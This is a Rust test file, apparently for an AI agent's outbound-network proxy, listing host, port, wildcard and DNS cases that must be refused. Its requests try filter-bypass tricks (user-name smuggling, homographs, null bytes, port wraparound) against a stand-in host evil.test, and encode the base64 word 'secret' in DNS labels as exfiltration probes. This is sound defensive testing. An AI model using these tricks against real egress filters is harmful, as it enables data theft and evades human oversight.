//! Names and ports: who is meant.

use super::{pattern, plain, says};
use crate::lab::Due::{Held, Refused};
use crate::lab::Trip::{Answer, Asked, Logged, Mark};
use crate::lab::{Attack, Case, Lab, Setup};
use crate::world::Ports;
use model::{Effect, EgressRule, Sight};
use std::sync::Arc;
use std::sync::atomic::Ordering;

/// Every name below `wild.test`, but not `bad.wild.test`.
fn wild(ports: Ports) -> Setup {
    let mut setup = pattern(ports, "*.wild.test");
    let id = "agents/tester.toml:9".into();
    let host = model::HostName::parse("bad.wild.test").unwrap().into();
    let deny = EgressRule { id, host, effect: Effect::Deny, ..setup.rules[0].clone() };
    setup.rules.push(deny);
    setup
}

/// Names below `wild.test` that a human must permit, and nobody is there.
fn asking(ports: Ports) -> Setup {
    let mut setup = pattern(ports, "*.wild.test");
    setup.rules[0].effect = Effect::Ask;
    setup
}

/// A request in a connection to `$to`, whose Host is the same, or another.
macro_rules! connect {
    ($name:literal, $setup:expr, $to:literal, $due:expr) => {
        connect!($name, $setup, $to, $to, $due)
    };
    ($name:literal, $setup:expr, $to:literal, $host:literal, $due:expr) => {
        says(
            $name,
            $setup,
            concat!(
                "CONNECT ",
                $to,
                " HTTP/1.1\r\nHost: ",
                $host,
                "\r\n\r\n",
                "GET /{MARK} HTTP/1.1\r\nHost: ",
                $host,
                "\r\n\r\n"
            ),
            Mark,
            Refused($due),
        )
    };
}

pub(super) const CASES: &[Case] = &[
    connect!("host: not in any rule", plain, "evil.test:{P}", "default deny"),
    connect!("host: the permitted name inside another", plain, "xgood.testx:{P}", "default deny"),
    connect!(
        "host: the permitted name as a label in front",
        plain,
        "good.test.evil.test:{P}",
        "default deny"
    ),
    connect!("host: suffix without a label boundary", plain, "evilgood.test:{P}", "default deny"),
    connect!("host: a name below an exact one", plain, "www.good.test:{P}", "default deny"),
    connect!("host: forbidden name with a trailing dot", plain, "evil.test.:{P}", "default deny"),
    connect!("host: two trailing dots", plain, "good.test..:{P}", "1 to 63"),
    connect!("host: forbidden name in upper case", plain, "EVIL.TEST:{P}", "default deny"),
    connect!(
        "host: permitted name as user name",
        plain,
        "good.test@evil.test:{P}",
        "evil.test:{P}",
        "user names"
    ),
    connect!(
        "host: permitted name and port as user name",
        plain,
        "good.test:{P}@evil.test:{P}",
        "evil.test:{P}",
        "user names"
    ),
    connect!("host: homograph, Cyrillic o", plain, "go\u{43e}d.test:{P}", "must be escaped"),
    connect!("host: homograph in punycode", plain, "xn--god-ded.test:{P}", "default deny"),
    connect!("host: full-width dot", plain, "good\u{ff0e}test:{P}", "must be escaped"),
    connect!(
        "host: zero byte inside",
        plain,
        "good.test\0.evil.test:{P}",
        "evil.test:{P}",
        "must be escaped"
    ),
    connect!("host: blank inside", plain, "good.test evil.test:{P}", "evil.test:{P}", "one blank"),
    connect!(
        "host: tab inside",
        plain,
        "good.test\tevil.test:{P}",
        "evil.test:{P}",
        "must be escaped"
    ),
    connect!("host: escaped zero byte inside", plain, "good.test%00.evil.test:{P}", "only letters"),
    connect!("host: escaped dot and letters", plain, "%65vil%2etest:{P}", "only letters"),
    connect!(
        "host: slash before the name",
        plain,
        "good.test/@evil.test:{P}",
        "evil.test:{P}",
        "user names"
    ),
    connect!(
        "host: question mark before the name",
        plain,
        "x?@evil.test:{P}",
        "evil.test:{P}",
        "user names"
    ),
    connect!(
        "host: comma between two names",
        plain,
        "good.test,evil.test:{P}",
        "evil.test:{P}",
        "only letters"
    ),
    connect!(
        "host: backslash before the name",
        plain,
        "good.test\\@evil.test:{P}",
        "evil.test:{P}",
        "user names"
    ),
    connect!("wildcard: the name itself", wild, "wild.test:{P}", "default deny"),
    connect!("wildcard: no label boundary", wild, "evilwild.test:{P}", "default deny"),
    connect!("wildcard: as a label in front", wild, "a.wild.test.evil.test:{P}", "default deny"),
    connect!("wildcard: asked for literally", wild, "*.wild.test:{P}", "only letters"),
    connect!("wildcard: empty label in front", wild, ".wild.test:{P}", "1 to 63"),
    connect!("deny: in upper case", wild, "BAD.Wild.TEST:{P}", "toml:9"),
    connect!("deny: with a trailing dot", wild, "bad.wild.test.:{P}", "toml:9"),
    connect!("port: not in the rule", plain, "good.test:{Q}", "only, not"),
    connect!("port: zero", plain, "good.test:0", "1 to 65535"),
    connect!("port: wraps around to another", plain, "good.test:{Q+65536}", "1 to 65535"),
    connect!("port: leading zeros", plain, "good.test:0{P}", "1 to 65535"),
    connect!("port: with a sign", plain, "good.test:+{P}", "1 to 65535"),
    connect!("port: two of them", plain, "good.test:{P}:{Q}", "only letters"),
    connect!("port: none", plain, "good.test", "HOST:PORT"),
    says(
        "dns: a name that no rule covers is asked for",
        plain,
        "GET /.nanoclaw/name/evil.test HTTP/1.1\r\nHost: x\r\n\r\n",
        Answer("HTTP/1.1 204"),
        Refused("dns: "),
    ),
    says(
        "dns: data in labels of an unlisted name",
        plain,
        "GET /.nanoclaw/name/c2VjcmV0.data.evil.test HTTP/1.1\r\nHost: x\r\n\r\n",
        Asked("c2VjcmV0"),
        Refused("dns: "),
    ),
    says(
        "dns: data in labels of a tunnelled name",
        plain,
        "CONNECT c2VjcmV0.data.evil.test:{P} HTTP/1.1\r\nHost: c2VjcmV0.data.evil.test:{P}\r\n\
         \r\nx",
        Asked("c2VjcmV0"),
        Refused("default deny"),
    ),
    says(
        "dns: data in labels below a wildcard, by question",
        wild,
        "GET /.nanoclaw/name/c2VjcmV0.wild.test HTTP/1.1\r\nHost: x\r\n\r\n",
        Asked("c2VjcmV0"),
        Held("no question leads to a name server"),
    ),
    says(
        "dns: data in labels below a wildcard that a human must permit, a request",
        asking,
        "CONNECT c2VjcmV0.wild.test:{P} HTTP/1.1\r\nHost: c2VjcmV0.wild.test:{P}\r\n\r\n\
         GET / HTTP/1.1\r\nHost: c2VjcmV0.wild.test:{P}\r\n\r\n",
        Asked("c2VjcmV0"),
        Refused("nobody can be asked"),
    ),
    says(
        "dns: data in labels below a wildcard that a human must permit, a tunnel",
        |ports| {
            let mut setup = asking(ports);
            setup.rules[0].sight = Sight::Tcp;
            setup
        },
        "CONNECT c2VjcmV0.wild.test:{P} HTTP/1.1\r\nHost: c2VjcmV0.wild.test:{P}\r\n\r\nx",
        Asked("c2VjcmV0"),
        Refused("nobody can be asked"),
    ),
    Case {
        name: "dns: data in labels below a wildcard while the log takes no record",
        setup: wild,
        attack: Attack::Does(|lab| Box::pin(unrecorded(lab))),
        trip: Asked("c2VjcmV0"),
        due: Held("no name is looked up before its intent is durable"),
    },
    Case {
        name: "dns: more names below a wildcard than the rule's rate",
        setup: |ports| {
            let mut setup = wild(ports);
            setup.rules[0].limits.max_per_minute = Some(2);
            setup
        },
        attack: Attack::Does(|lab| Box::pin(spelt_out(lab))),
        trip: Asked("c2VjcmV0"),
        due: Refused("in a minute"),
    },
    says(
        "dns: an address as a name",
        plain,
        "GET /.nanoclaw/name/127.0.0.2 HTTP/1.1\r\nHost: x\r\n\r\n",
        Answer("HTTP/1.1 204"),
        Refused("it is an address"),
    ),
    says(
        "dns: a name that is denied below a wildcard",
        wild,
        "GET /.nanoclaw/name/BAD.wild.test. HTTP/1.1\r\nHost: x\r\n\r\n",
        Answer("HTTP/1.1 204"),
        Refused("dns: "),
    ),
    Case {
        name: "dns: a flood of made-up names fills the log",
        setup: plain,
        attack: Attack::Does(|lab| Box::pin(flood(lab))),
        trip: Logged(300),
        due: Refused("dns: "),
    },
];

async fn unrecorded(lab: Arc<Lab>) {
    lab.sink.broken.store(true, Ordering::SeqCst);
    lab.say("GET http://c2VjcmV0.wild.test:{P}/ HTTP/1.1\r\nHost: c2VjcmV0.wild.test:{P}\r\n\r\n")
        .await;
}

async fn spelt_out(lab: Arc<Lab>) {
    for (nth, name) in ["a.wild.test", "b.wild.test", "c2VjcmV0.wild.test"].iter().enumerate() {
        let request = format!("GET http://{name}:{{P}}/ HTTP/1.1\r\nHost: {name}:{{P}}\r\n\r\n");
        lab.say(&request).await;
        lab.answered(nth + 1).await;
    }
}

async fn flood(lab: Arc<Lab>) {
    const NAMES: usize = 600;
    let ask = |n| format!("GET /.nanoclaw/name/n{n}.evil.test HTTP/1.1\r\nHost: x\r\n\r\n");
    let all: String = (0..NAMES).map(ask).collect();
    lab.send(all.as_bytes()).await;
    lab.answered(NAMES).await;
}
